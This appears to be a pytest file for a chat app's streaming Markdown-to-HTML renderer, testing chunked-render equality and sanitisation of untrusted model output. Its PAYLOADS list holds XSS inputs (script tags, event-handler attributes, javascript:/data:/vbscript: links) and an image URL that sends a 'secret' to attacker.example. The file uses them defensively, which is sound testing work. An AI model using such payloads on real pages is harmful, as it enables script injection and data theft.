"""render_html and HtmlStream: the streamed blocks equal the one-shot render at any chunking, and model
output is untrusted: raw HTML is text, only http/https/mailto links, images never fetched."""

from __future__ import annotations

import random
from html.parser import HTMLParser
from pathlib import Path

import pytest
from html_pieces import assemble

from streamchat.render import HtmlFrame, HtmlStream, render_html
from streamchat.render.html import LINK_REL, code_style_css

RICH = (Path(__file__).resolve().parents[1] / "e2e" / "scripts" / "rich.md").read_text()
TRICKY = (
    "Para\r\nline two\r\n\r\n```js\r\nlet a = 1;\r\n```\r\nSetext\r\n===\r\n\r\n[ref]: https://x.example\r\n"
)


def pieces(frame: HtmlFrame) -> list[tuple[str, str, bool]]:
    return [(piece.kind, piece.html, piece.end) for piece in frame.pieces]


def streamed(text: str, sizes: random.Random | int, frame_every: int = 1) -> str:
    stream = HtmlStream()
    out: list[tuple[str, str, bool]] = []
    i = 0
    count = 0
    while i < len(text):
        size = sizes if isinstance(sizes, int) else sizes.randint(1, 16)
        stream.feed(text[i : i + size])
        i += size
        count += 1
        if count % frame_every == 0:
            out.extend(pieces(stream.frame()))
    final = stream.finish()
    assert final.tail == ""
    return assemble(out + pieces(final))


@pytest.mark.parametrize("text", [RICH, TRICKY, "", "no newline at the end", "```\nopen fence"])
@pytest.mark.parametrize("size", [1, 4, 7])
def test_streamed_blocks_equal_the_one_shot_render(text: str, size: int) -> None:
    assert streamed(text, size) == render_html(text)
    assert streamed(text, size, frame_every=5) == render_html(text)


def test_random_chunks() -> None:
    for seed in range(6):
        assert streamed(RICH, random.Random(seed), frame_every=3) == render_html(RICH)


def test_the_tail_changes_only_when_text_arrives() -> None:
    stream = HtmlStream()
    stream.feed("Hello")
    assert stream.frame().tail == "<p>Hello</p>\n"  # one partial line: the tail, nothing finished
    frame = stream.frame()
    assert frame.empty
    stream.feed(" world\n\nNext")  # the next block has not begun on a complete line yet
    assert stream.frame().blocks == ()
    stream.feed(" one\n")
    frame = stream.frame()
    assert frame.blocks == ("<p>Hello world</p>\n",) and frame.tail == "<p>Next one</p>\n"


PAYLOADS = [
    "<script>window.__xss = 1</script>",
    '<img src="https://attacker.example/x.png" onerror="window.__xss=1">',
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[vb](vbscript:msgbox)",
    "[rel](/api/conversations)",
    "![leak](https://attacker.example/?q=secret)",
    "![local](/static/icon.svg)",
    "<!-- a comment --> &lt;b&gt; &amp;",
    "<iframe src=https://attacker.example></iframe>",
    "<style>body{display:none}</style>",
    '[x](https://ok.example "title" onmouseover="alert(1)")',
    "<details open ontoggle=alert(1)>",
    "```html\n<script>alert(1)</script>\n```",
    "| a |\n|---|\n| <b onclick=alert(1)>x</b> |",
]


class _Markup(HTMLParser):
    """The elements, attributes and comments of an HTML fragment."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


ALLOWED_TAGS = {"p", "a", "code", "pre", "span", "div", "button", "table", "thead", "tbody", "tr", "th", "td",
                "strong", "em", "ul", "ol", "li", "h1", "h2", "h3"}  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_model_output_cannot_inject_markup(payload: str) -> None:
    markup = _Markup()
    markup.feed(render_html(payload))
    assert markup.comments == []
    for tag, attrs in markup.tags:
        assert tag in ALLOWED_TAGS, (payload, tag)
        assert not any(name.startswith("on") or name in ("style", "src") for name in attrs), (payload, attrs)
        if tag == "a":
            assert str(attrs.get("href", "")).startswith(("https://", "http://", "mailto:")), (payload, attrs)
            assert attrs.get("rel") == LINK_REL


def test_links_and_images() -> None:
    html = render_html("[site](https://example.com) <https://auto.example> [mail](mailto:a@b.example)")
    assert html.count(f'rel="{LINK_REL}"') == 3 and html.count('target="_blank"') == 3
    image = render_html("![a chart](https://example.com/c.png)")
    link = f'<a class="image-link" href="https://example.com/c.png" target="_blank" rel="{LINK_REL}">'
    assert image == f"<p>{link}image: a chart</a></p>\n"
    assert "<a" not in render_html("![x](/local.png)")


def test_code_is_highlighted_with_classes_and_has_a_copy_button() -> None:
    html = render_html("```python\ndef f():\n    return 1\n```\n")
    assert '<code class="language-python">' in html and '<span class="k">def</span>' in html
    assert 'aria-label="Copy code"' in html and "style=" not in html
    table = render_html("| a | b |\n|--:|:-:|\n| 1 | 2 |\n")
    assert 'class="align-right"' in table and "style=" not in table
    css = code_style_css()
    assert ".code-block pre .k" in css and "prefers-color-scheme: dark" in css


FENCE_LINES = "".join(f"value_{n} = compute({n})  # step\n" for n in range(200))
FENCE_REPLY = f"Intro.\n\n```python\n{FENCE_LINES}```\n\nAfter.\n"


def test_a_code_fence_streams_line_by_line() -> None:
    stream = HtmlStream()
    out: list[tuple[str, str, bool]] = []
    tails: list[str] = []
    for start in range(0, len(FENCE_REPLY), 4):
        stream.feed(FENCE_REPLY[start : start + 4])
        frame = stream.frame()
        out.extend(pieces(frame))
        if frame.tail is not None:
            tails.append(frame.tail)
    out.extend(pieces(stream.finish()))
    assert assemble(out) == render_html(FENCE_REPLY)
    kinds = [kind for kind, _, _ in out]
    assert kinds.count("fence") == 1  # the code block is sent once, empty ...
    lines = [html for kind, html, _ in out if kind == "lines"]
    assert sum(html.count("\n") for html in lines) == 200  # ... and each of its lines once
    assert [end for kind, _, end in out if kind == "lines"].count(True) == 1
    # The tail never holds more than one line of code, however long the fence grows.
    assert max(len(tail) for tail in tails[len(tails) // 4 :]) < 300


def test_the_tail_of_an_open_fence_is_its_unfinished_line() -> None:
    stream = HtmlStream()
    stream.feed("```js\nlet a = 1;\nlet b")
    frame = stream.frame()
    assert [piece.kind for piece in frame.pieces] == ["fence", "lines"]
    assert frame.pieces[0].html.endswith('<code class="language-js"></code></pre></div>\n')
    assert "let" in frame.pieces[1].html and "a" in frame.pieces[1].html and not frame.pieces[1].end
    assert frame.tail is not None and ">b<" in frame.tail and "\n" not in frame.tail
    stream.feed(" = 2;\n```\nText")
    frame = stream.frame()
    assert [(piece.kind, piece.end) for piece in frame.pieces] == [("lines", True)]
    assert frame.tail == "<p>Text</p>\n"  # back to Markdown below the finished block


@pytest.mark.parametrize("text", [
    "```\nopen fence with no end",
    "```python\nx = 1\n   ",  # a last line of spaces is not part of the fence
    "  ```\n  indented\n    more\n  ```\n",
    "~~~ruby extra words\nputs 1\n~~~\n",
    "```\n```\n",
    "- item\n\n  ```\n  nested fence\n  ```\n",
    '```html\n<script>alert(1)</script>\n"quotes" & \'apostrophes\'\n```\n',
])  # fmt: skip
def test_fences_stream_to_the_one_shot_render(text: str) -> None:
    for size in (1, 3, 16):
        assert streamed(text, size) == render_html(text)
